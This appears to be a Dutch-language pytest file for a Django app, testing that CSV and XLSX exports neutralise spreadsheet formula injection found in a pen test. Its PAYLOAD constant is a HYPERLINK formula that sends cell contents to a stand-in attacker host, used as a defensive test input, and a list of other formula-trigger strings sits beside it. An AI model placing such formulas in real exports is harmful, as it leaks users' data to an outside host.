"""Formula injection in exports (pen test, issue 19 #4): people's text is written as text.

Each export is read back: in an XLSX no cell is a formula (``data_type`` ``"f"``) and the text is
unchanged; in a CSV a cell that starts like a formula starts with a single quote. Numbers,
negative ones included, stay numbers.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from analyse.models import Vraag
from kvo.export import als_tekst, csv_inhoud, xlsx_inhoud
from tests.analyse.factories import EnqueteFactory, ReactieFactory, VraagFactory
from tests.factories import BedrijventerreinFactory

PAYLOAD = '=HYPERLINK("http://aanvaller.example/?"&A2&B2,"Klik hier")'
GEVAARLIJK = [PAYLOAD, "+31 6 1234", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "=1+1"]


def _csv(inhoud: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(inhoud.lstrip("\ufeff")), delimiter=";"))


def _cellen(inhoud: bytes):
    boek = load_workbook(io.BytesIO(inhoud))
    return [cel for blad in boek for rij in blad.iter_rows() for cel in rij if cel.value is not None]


@pytest.mark.parametrize("tekst", GEVAARLIJK)
def test_tekst_die_als_formule_begint_krijgt_een_aanhalingsteken(tekst):
    assert als_tekst(tekst) == "'" + tekst
    ((cel,),) = _csv(csv_inhoud([[tekst]]))
    assert cel == "'" + tekst


def test_gewone_tekst_en_getallen_blijven_zoals_ze_zijn():
    assert als_tekst("Bedrijventerrein Zuid") == "Bedrijventerrein Zuid"
    assert als_tekst(-3) == -3 and als_tekst(-2.5) == -2.5 and als_tekst(0) == 0
    assert _csv(csv_inhoud([[-3, "-3", 2.5, "a=b"]])) == [["-3", "'-3", "2.5", "a=b"]]


def test_xlsx_schrijft_tekst_als_tekst_en_getallen_als_getal():
    inhoud = xlsx_inhoud({"Blad": [["kop", "getal"], *[[t, -3] for t in GEVAARLIJK]]})
    cellen = _cellen(inhoud)
    assert not [c for c in cellen if c.data_type == "f"]
    teksten = [c.value for c in cellen if c.column == 1][1:]
    # the text is kept as it was, shown as text (an XML reader without lxml reads a carriage return
    # back as a newline; with lxml, which single sign-on brings, it reads it back as it was written)
    assert len(teksten) == len(GEVAARLIJK)
    assert all(gelezen in (t, t.replace("\r", "\n")) for gelezen, t in zip(teksten, GEVAARLIJK, strict=True))
    assert all(c.quotePrefix for c in cellen if c.column == 1 and c.row > 1)
    assert {(c.value, c.data_type) for c in cellen if c.column == 2 and c.row > 1} == {(-3, "n")}


# --- every export of the app ------------------------------------------------------------------


@pytest.fixture
def enquete_met_payload(actoren):
    enquete = EnqueteFactory(cyclus=actoren.cyclus, geopend_op=dt.date(2026, 11, 2))
    VraagFactory(enquete=enquete, ref="s", type=Vraag.Type.SCHAAL, volgorde=1, thema=PAYLOAD)
    VraagFactory(enquete=enquete, ref="o", type=Vraag.Type.OPEN, volgorde=2, tekst="@vraag")
    terrein = BedrijventerreinFactory(werkgroep=actoren.werkgroep, naam="=Zuid")
    for i in range(5):
        ReactieFactory(enquete=enquete, terrein=terrein, antwoorden={"s": 1 + i, "o": PAYLOAD if i else "-1"})
    return enquete


def _export(client, formaat):
    return client.get(reverse("analyse:resultaten_export", kwargs={"werkgroep": "de-hoek", "formaat": formaat}))


def test_enquete_export_csv(actoren, als, enquete_met_payload):
    rijen = _csv(_export(als(actoren.lid), "csv").content.decode("utf-8"))
    cellen = [c for rij in rijen for c in rij]
    assert "'=Zuid: aantal" in rijen[0]  # a park name in the header row
    assert cellen.count("'" + PAYLOAD) >= 4 + 5  # four open answers, the theme on five scale rows
    assert "'-1" in cellen and "'@vraag" in cellen
    assert not [c for c in cellen if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_enquete_export_xlsx(actoren, als, enquete_met_payload):
    cellen = _cellen(_export(als(actoren.lid), "xlsx").content)
    assert not [c.coordinate for c in cellen if c.data_type == "f"]
    waarden = [c.value for c in cellen]
    assert "=Zuid: aantal" in waarden and waarden.count(PAYLOAD) >= 4 and "@vraag" in waarden
    assert all(c.data_type == "s" for c in cellen if isinstance(c.value, str))
    assert any(c.data_type == "n" for c in cellen)  # counts and percentages stay numbers


def test_voorbeeldbestanden_gaan_ook_via_kvo_export(actoren, als):
    """The import examples (incident figures, the entrepreneurs' register) hold fixed rows; they are
    written by the same helper, so every spreadsheet the app hands out is made one way."""
    terrein = BedrijventerreinFactory(werkgroep=actoren.werkgroep)
    client = als(actoren.lid)
    w = {"werkgroep": "de-hoek"}
    cijfers = client.get(reverse("analyse:cijfers_voorbeeld", kwargs=w))
    ondernemers = client.get(reverse("gebieden:ondernemers_voorbeeld", kwargs={**w, "terrein": terrein.pk}))
    for antwoord in (cijfers, ondernemers):
        assert antwoord.status_code == 200 and antwoord["Content-Type"] == "text/csv; charset=utf-8"
        assert antwoord.content.startswith("\ufeff".encode())
    assert _csv(ondernemers.content.decode("utf-8"))[1][0] == "Voorbeeld B.V."
    cellen = _cellen(client.get(reverse("analyse:cijfers_voorbeeld_xlsx", kwargs=w)).content)
    assert not [c for c in cellen if c.data_type == "f"] and any(c.data_type == "n" for c in cellen)


def test_elke_spreadsheet_gaat_via_kvo_export():
    """A new CSV or XLSX export that writes its own file would skip the neutralising: only
    ``kvo/export.py`` may call the writers."""
    from pathlib import Path

    wortel = Path(__file__).resolve().parents[2]
    schrijvers = ("csv.writer(", "csv.DictWriter(", "Workbook(", "export_data(", "text/csv", "spreadsheetml")
    buiten = []
    for pad in wortel.glob("*/**/*.py"):
        deel = pad.relative_to(wortel).parts
        if deel[0] in ("tests", "bench", "static", "docs") or "migrations" in deel or deel[0].startswith("."):
            continue
        if deel == ("kvo", "export.py"):
            continue
        # These only name the content types, to recognise an uploaded file or a download; they write none.
        if deel in (("werkgroepen", "bestanden.py"), ("kvo", "downloads.py")):
            tekst = pad.read_text(encoding="utf-8")
            buiten += [f"{pad.relative_to(wortel)}: {s}" for s in schrijvers[:4] if s in tekst]
            continue
        tekst = pad.read_text(encoding="utf-8")
        buiten += [f"{pad.relative_to(wortel)}: {s}" for s in schrijvers if s in tekst]
    assert buiten == [], "schrijf spreadsheets met kvo.export: " + "; ".join(buiten)
